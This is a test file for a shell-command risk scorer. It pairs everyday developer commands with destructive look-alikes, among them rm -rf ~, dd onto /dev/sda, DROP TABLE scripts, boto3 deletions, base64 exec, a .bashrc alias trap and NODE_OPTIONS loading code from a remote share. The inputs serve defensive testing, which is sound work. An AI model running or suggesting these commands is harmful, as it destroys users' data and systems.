// biome-ignore-all lint/suspicious/noTemplateCurlyInString: text of shells
import { describe, expect, test } from 'vitest'
import { scoreHint } from './score-hint.ts'

const scoreOf = (text: string) => scoreHint(text, { isCommand: true }).score

/** Everyday work, and beside it the same words around something that is lost. */
const TWINS: Readonly<Record<string, { readonly everyday: readonly string[]; readonly grave: readonly string[] }>> = {
  'commands of Windows': {
    everyday: [
      String.raw`fc /n config\dev.json config\dev.example.json`,
      'fc a.json b.json',
      'msbuild Engine.sln /t:Rebuild /p:Configuration=Debug;Platform=x64 /m /v:m',
      'cmd /c "where node && type package.json | findstr version"',
      'setx EDITOR code',
    ],
    grave: [
      'msbuild Engine.sln /p:A=b;rm -rf ~',
      'msbuild Engine.sln /p:A=b;C=d /m; rm -rf ~',
      'cmd /c "setx /M NODE_OPTIONS ""--require \\\\203.0.113.9\\share\\hook.js"""',
      'cmd /c "setx /M PATH ""C:\\x;%PATH%"""',
      'setx /m COMSPEC C:\\x.exe',
    ],
  },
  'code that reads': {
    everyday: [
      `python3 -c "import json; d=json.load(open('package.json')); print('\\n'.join(f'{k}: {v}' for k,v in d['dependencies'].items()))"`,
      `python3 -c "import re; print(', '.join(re.compile('a').findall(open('a.txt').read())))"`,
      `python3 - <<'E'\nimport sqlite3\nc = sqlite3.connect("file:dev.db?mode=ro", uri=True)\nfor (n,) in c.execute("select name from sqlite_master"):\n    print(n, c.execute(f"select count(*) from {n}").fetchone()[0])\nE`,
    ],
    grave: [
      `python3 -c "import pickle; print(''.join(pickle.load(open('x'))))"`,
      `python3 -c "import pickle as json; print(''.join(json.load(open('x'))))"`,
      `python3 -c "import base64; exec(base64.b64decode('eA=='))"`,
      `python3 -c "load = eval; print(load(''.join(['1'])))"`,
      `python3 - <<'E'\nimport sqlite3\nc = sqlite3.connect("prod.db")\nfor t in ["a"]:\n    c.execute(f"DROP TABLE {t}")\nE`,
      `python3 - <<'E'\nimport sqlite3\nc = sqlite3.connect("prod.db")\nc.executescript("select 1; DROP TABLE users")\nE`,
      `python3 -c "import os; os.system('rm -rf /')"`,
      `python3 -c "import json, shutil; shutil.rmtree(''.join(json.load(open('a.json'))))"`,
      `python3 - <<'E'\nimport boto3\nboto3.resource("s3").Bucket("acme").object_versions.delete()\nE`,
      `python3 - <<'E'\nimport boto3\nec2 = boto3.client("ec2")\nec2.terminate_instances(InstanceIds=["i-1"])\nE`,
      `python3 - <<'E'\nimport boto3\nboto3.client("logs").delete_log_group(logGroupName="prod")\nE`,
      `node -e "const {S3Client,DeleteObjectsCommand}=require('@aws-sdk/client-s3');new S3Client().send(new DeleteObjectsCommand({}))"`,
      `node --input-type=module -e "for (const c of await (await fetch('https://api.acme.com/v1/c')).json()) await fetch('https://api.acme.com/v1/c/'+c.id,{method:'DELETE'})"`,
      `python3 -c "import requests; [requests.delete(f'https://api.acme.com/c/{i}') for i in range(9)]"`,
    ],
  },
  'files that a here-document writes': {
    everyday: [
      "cat > Dockerfile.dev <<'EOF'\nFROM node:20\nRUN npm ci && rm -rf /root/.npm\nEOF",
      "mkdir -p .scratch && cat > .scratch/main.go <<'EOF'\npackage main\nfunc main() {}\nEOF\ngo run .scratch/main.go; rm -rf .scratch",
      'mkdir tmp-check && touch tmp-check/a && rm -r tmp-check',
    ],
    grave: [
      "cat > x.sh <<'EOF'\nRUN rm -rf /root\nrm -rf ~\nEOF\nbash x.sh",
      "cat > x.sh <<'EOF'\nrm -rf ~\nEOF\nchmod +x x.sh && ./x.sh",
      "cat > x.py <<'EOF'\nimport shutil\nshutil.rmtree('/home/bob')\nEOF\npython3 x.py",
      "cat > ~/.bashrc <<'EOF'\nalias ls='rm -rf ~'\nEOF",
      "cat <<'EOF' | sh\nrm -rf ~\nEOF",
      'cat > x.txt <<EOF\n$(rm -rf ~)\nEOF',
      "cat > x.txt <<'EOF'\nhello\nEOF\nrm -rf ~",
      'mkdir -p src && rm -rf src',
      'mkdir -p .scratch && rm -rf .scratch ~',
      'mkdir -p .scratch && rm -rf .scratch/..',
      'mkdir -p /scratch && rm -rf /scratch',
    ],
  },
  'what programs make again': {
    everyday: [
      "find . -type d -name __pycache__ -not -path './.venv/*' -prune -exec rm -rf {} +",
      "find . \\( -name bin -o -name obj \\) -type d -path './src/*' -prune -exec rm -rf {} +",
      'flutter clean && dart run build_runner build --delete-conflicting-outputs',
      'docker compose -f docker-compose.test.yml down --remove-orphans',
      "docker ps --filter label=org.testcontainers=true --format '{{.ID}}' | xargs -r docker stop -t 2",
    ],
    grave: [
      'find / -type d -name data -not -path ./x -prune -exec rm -rf {} +',
      'find . -not -name node_modules -exec rm -rf {} +',
      'find . -name node_modules -prune -o -type f -delete',
      'find . -name node_modules -prune -o -exec rm -rf {} +',
      'find ~ \\( -name bin -o -name Documents \\) -exec rm -rf {} +',
      'dart run tool --delete-buckets',
      'docker compose -f docker-compose.yml down -v',
      'docker compose -f docker-compose.yml down --rmi all',
      'docker compose -f a.yml -f b.yml exec db dropdb app',
      'docker ps -aq | xargs docker rm -f',
      'docker ps --filter label=x -q | xargs docker rm -f',
      'docker ps --filter label=x -q | xargs rm -rf',
    ],
  },
  'files, disks and databases': {
    everyday: [
      'fdisk -l disk.img',
      'mkdir -p testdata && dd if=/dev/urandom of=testdata/blob.bin bs=1K count=64',
      'truncate -s 5M tests/fixtures/large.bin',
      `curl -s 'localhost:9200/products/_search?size=3' -d '{"query":{"match_all":{}}}'`,
      'git merge-tree --write-tree origin/main HEAD',
    ],
    grave: [
      'fdisk disk.img',
      'fdisk -l disk.img; sfdisk --delete /dev/sda',
      'parted -l disk.img mklabel gpt',
      'dd if=/dev/zero of=/dev/sda',
      'dd if=/dev/zero of=/etc/fixtures/passwd.bin',
      'truncate -s 0 /var/lib/app/fixtures/app.db',
      'truncate -s 0 tests/fixtures/../../../x.db',
      `curl -X POST 'localhost:9200/products/_delete_by_query?size=3' -d '{}'`,
      `curl -X DELETE 'localhost:9200/products?x=_search'`,
      'npx prisma migrate reset --force',
      'DATABASE_URL=postgresql://db.acme.com/app_test npx prisma migrate reset --force',
      'DATABASE_URL=postgresql://localhost/app npx prisma migrate reset --force',
      'DATABASE_URL=postgresql://localhost/app_test npx prisma db execute --url postgresql://db.acme.com/app --file drop.sql --force',
    ],
  },
}

describe.each(Object.entries(TWINS))('%s', (_, { everyday, grave }) => {
  test.each(everyday)('everyday work is not asked about: %j', (text) => {
    expect(scoreOf(text)).toBeLessThanOrEqual(30)
  })

  test.each(grave)('the same around what is lost needs a code: %j', (text) => {
    expect(scoreOf(text)).toBeGreaterThan(60)
  })
})

test.each([
  'truncate -s 0 src/app.ts',
  'dd if=/dev/zero of=src/app.ts',
  'DATABASE_URL=postgresql://localhost:5432/app_test npx prisma migrate reset --force',
  'python3 -c "import sqlite3; sqlite3.connect(\'a.db\').execute(statement)"',
  'mkdir -p notes && rm -rf notes',
  'docker ps -q | xargs docker stop',
])('what may be lost is asked about, without a code: %s', (text) => {
  expect(scoreOf(text)).toBeGreaterThan(30)
  expect(scoreOf(text)).toBeLessThanOrEqual(60)
})
